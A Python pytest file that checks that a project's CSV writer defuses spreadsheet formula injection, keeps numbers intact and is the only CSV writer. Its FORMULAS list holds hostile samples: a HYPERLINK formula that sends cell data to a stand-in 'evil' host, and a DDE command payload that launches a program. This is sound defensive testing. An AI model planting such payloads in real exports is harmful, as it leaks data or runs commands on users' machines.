"""CSV that a spreadsheet shows and does not execute."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from nvsim.evaluation.table import csv_table
from nvsim.files.csv_text import csv_text
from nvsim.graph.types import NavGraph, Viewpoint
from nvsim.r2r.observations.parts import write_parts

FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+cmd|/C calc!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1+1",
    "-",
    "+1 a",
    "-1.5.2",
]
PACKAGES = Path(__file__).parents[2]


def read(text: str, by: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=by))


@pytest.mark.parametrize("by", [",", "\t"])
@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str, by: str) -> None:
    assert read(csv_text([[text, 1]], by), by) == [["'" + text, "1"]]


@pytest.mark.parametrize("value", [-1.5, -3, 1e-9, float("-inf"), "-1.5", "+2", "-1e-05", "-inf", "-.5", True, None])
def test_numbers_stay_numbers(value: object) -> None:
    assert read(csv_text([[value, "x"]])) == [["" if value is None else str(value), "x"]]


@pytest.mark.parametrize("text", ["room=1", "a@b.c", "1-2", "Küche", "", '"quoted"', "a,b", "a\nb", "'x"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert read(csv_text([["x", text]])) == [["x", text]]


def test_names_of_columns_and_ids_of_viewpoints_are_no_formulas(tmp_path: Path) -> None:
    assert read(csv_table(["=A1", "b"], [{"=A1": "@x", "b": -1.0}])) == [["'=A1", "b"], ["'@x", "-1.0"]]
    viewpoints = {id: Viewpoint(id, (-1.0, 0.0, 0.0), 1.5) for id in FORMULAS}
    write_parts(tmp_path / "parts.csv", [NavGraph("=scan", viewpoints, {})])
    rows = read((tmp_path / "parts.csv").read_bytes().decode())
    assert rows[1][:3] == ["'=scan", "'" + FORMULAS[0], "-1.000"] and all(row[1].startswith("'") for row in rows[1:])


def test_one_writer_makes_all_csv() -> None:
    """A module that imports csv would contain a second writer."""
    for package in ("nvsim", "app/nvsim_app"):
        for path in (PACKAGES / package).rglob("*.py"):
            text = path.read_text()
            if "writer" not in text and "DictWriter" not in text:
                continue
            called = [n.func for n in ast.walk(ast.parse(text)) if isinstance(n, ast.Call)]
            writers = [f for f in called if isinstance(f, ast.Attribute) and f.attr in ("writer", "DictWriter")]
            assert not writers or path.name == "csv_text.py", path
